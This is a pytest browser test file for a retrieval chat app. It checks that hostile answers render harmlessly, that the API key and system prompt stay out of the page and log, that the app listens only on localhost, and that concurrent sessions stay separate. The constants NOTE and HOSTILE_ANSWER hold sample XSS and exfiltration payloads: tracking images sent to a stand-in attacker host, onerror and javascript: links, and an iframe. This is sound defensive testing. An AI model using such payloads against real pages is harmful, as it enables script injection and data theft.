"""The running app in headless Chromium: hostile answers render harmlessly, secrets stay
out of the page and the log, it listens on 127.0.0.1 only, and sessions at once keep to
themselves."""

from __future__ import annotations

import os
import time
from pathlib import Path
from urllib.parse import urlparse

import pytest

from rag.chat.prompts import ANSWER_SYSTEM
from tests.support.browser import (
    browser,
    choose_files,
    go_to,
    new_tab,
    require_chromium,
    running_app,
)
from tests.support.fake_llm import FakeLLM
from tests.support.helpers import run_json

pytestmark = pytest.mark.browser
KEY = "sk-test-SENTINEL-0123456789"
ATTACKER = "attacker.invalid"
NOTE = (
    "# Lighthouse\n\nThe lighthouse keeper logs the weather every evening at six.\n\n"
    f"![logo](http://{ATTACKER}/doc.png) <img src=http://{ATTACKER}/doc2.png>"
    " <b id=doc-html>bold</b> [site](javascript:alert('doc'))\n"
)
HOSTILE_ANSWER = (
    "The keeper logs the weather [1], as a manual says [9].\n\n"
    f"![tracker](http://{ATTACKER}/pixel.png?q=secret)\n\n"
    f'<img src="http://{ATTACKER}/img.png" onerror="alert(1)">\n\n'
    '[click me](javascript:alert(2)) and <a href="javascript:alert(3)">raw link</a>\n\n'
    f"![reference image][r]\n\n[r]: http://{ATTACKER}/ref.png\n\n"
    f'<b id="injected">bold</b> <iframe src="http://{ATTACKER}/frame"></iframe>\n\n'
    "<javascript:alert(4)> [data](data:text/html,<script>alert(5)</script>)"
)


def _env(tmp_path: Path, server: FakeLLM, **extra: str) -> dict[str, str]:
    return {
        **os.environ,
        "RAG_DATA_DIR": str(tmp_path / "data"),
        "RAG_CHAT_MODEL": "fake-model",
        "OPENAI_BASE_URL": server.base_url,
        "OPENAI_API_KEY": KEY,
        "RAG_CHAT_MAX_RETRIES": "0",
        **extra,
    }


def _ask(tab, question: str, wait_for: str) -> None:
    go_to(tab, "Chat")
    box = tab.get_by_placeholder("Ask about your documents")
    box.fill(question)
    box.press("Enter")
    tab.get_by_text(wait_for).first.wait_for()


@pytest.fixture
def seeded(tmp_path):
    """A data folder holding the lighthouse note, ingested before the app starts."""
    require_chromium()
    note = tmp_path / "lighthouse.md"
    note.write_text(NOTE)
    run_json("ingest", "add", str(note), data_dir=tmp_path / "data")
    return tmp_path


def test_hostile_answer_and_document_render_without_html_remote_images_or_scripts(seeded):
    requests: list[str] = []
    with FakeLLM() as server, browser() as chromium:
        server.reply(HOSTILE_ANSWER)
        log = seeded / "streamlit.log"
        with running_app(_env(seeded, server), log) as (url, _):
            tab = new_tab(chromium, url)
            tab.on("request", lambda request: requests.append(request.url))
            _ask(tab, "When does the keeper log the weather?", "[9] unverified")
            tab.get_by_text("The keeper logs the weather").first.wait_for()
            tab.get_by_text("Sources and scores", exact=True).wait_for()
            time.sleep(1)  # anything the page would load, it has asked for by now

            assert tab.locator(f"img[src*='{ATTACKER}']").count() == 0
            assert tab.locator(f"iframe, [src*='{ATTACKER}']").count() == 0
            assert tab.locator("a[href^='javascript'], a[href^='data:']").count() == 0
            assert tab.locator("#injected, #doc-html").count() == 0
            assert tab.dialogs == []
            body = tab.locator("body").inner_text()
            assert "click me" in body  # a dangerous link keeps its words, not its target
    hosts = {urlparse(address).hostname for address in requests}
    assert hosts <= {"127.0.0.1"}, hosts


def test_no_key_system_prompt_or_path_in_the_page_or_the_log(seeded):
    with FakeLLM() as server, browser() as chromium:
        server.fail("unauthorized", times=1)
        log = seeded / "streamlit.log"
        with running_app(_env(seeded, server), log) as (url, _):
            tab = new_tab(chromium, url)
            _ask(tab, "When does the keeper log the weather?", "refused the credentials")
            server.reply("The keeper logs the weather at six [1].")
            _ask(tab, "And at what time?", "at six [1]")
            tab.get_by_text("Trace").first.click()
            page = tab.content() + tab.locator("body").inner_text()
    assert server.headers[0]["authorization"] == f"Bearer {KEY}"  # it was sent
    secrets = [KEY, ANSWER_SYSTEM.splitlines()[0], "data, not instructions", str(seeded)]
    for secret in secrets:
        assert secret not in page
        assert secret not in log.read_text()


def test_the_app_listens_on_127_0_0_1_only_by_default(seeded):
    with FakeLLM() as server:
        log = seeded / "streamlit.log"
        with running_app(_env(seeded, server), log, address_flag=False) as (_, port):
            addresses = _listening_addresses(port)
    assert addresses and addresses <= {"127.0.0.1"}, addresses


def _listening_addresses(port: int) -> set[str]:
    """The local addresses of the sockets listening on `port`, from /proc/net/tcp(6)."""
    found: set[str] = set()
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        if not Path(table).exists():
            continue
        for row in Path(table).read_text().splitlines()[1:]:
            local, state = row.split()[1], row.split()[3]
            address, port_hex = local.split(":")
            if state == "0A" and int(port_hex, 16) == port:  # 0A: LISTEN
                found.add(_address(address, width))
    return found


def _address(hex_address: str, width: int) -> str:
    if width == 8:  # IPv4, little-endian
        return ".".join(str(int(hex_address[i : i + 2], 16)) for i in (6, 4, 2, 0))
    return "::" if set(hex_address) == {"0"} else hex_address


def test_sessions_at_once_upload_and_chat_without_sharing(seeded):
    paths = [seeded / f"{animal}.md" for animal in ("bees", "wasps")]
    for path in paths:
        path.write_text(f"# {path.stem}\n\nNotes on {path.stem} in the orchard.\n")
    with FakeLLM(chunk_delay_s=0.02) as server, browser() as chromium:
        log = seeded / "streamlit.log"
        with running_app(_env(seeded, server), log) as (url, _):
            uploaders = [new_tab(chromium, url) for _ in paths]
            askers = [new_tab(chromium, url) for _ in range(2)]
            for tab, path in zip(uploaders, paths, strict=True):  # start all, wait for none
                go_to(tab, "Documents")
                choose_files(tab, [path])
                tab.get_by_role("button", name="Ingest").click()
            for number, tab in enumerate(askers):
                box = tab.get_by_placeholder("Ask about your documents")
                box.fill(f"Question from session {number}: when is the weather logged?")
                box.press("Enter")
            for tab, path in zip(uploaders, paths, strict=True):
                tab.get_by_text(f"{path.name}: ingested (").wait_for()
            for number, tab in enumerate(askers):
                tab.get_by_text(f"Question from session {number}").first.wait_for()
                tab.get_by_text("The sources say so").first.wait_for()
                other = f"Question from session {1 - number}"
                assert tab.get_by_text(other).count() == 0  # no shared history
            checker = new_tab(chromium, url)
            go_to(checker, "Documents")
            checker.get_by_text("Library (3)").wait_for()
            for tab in [*uploaders, *askers, checker]:
                assert tab.locator("[data-testid=stException]").count() == 0
    assert "Traceback" not in log.read_text()
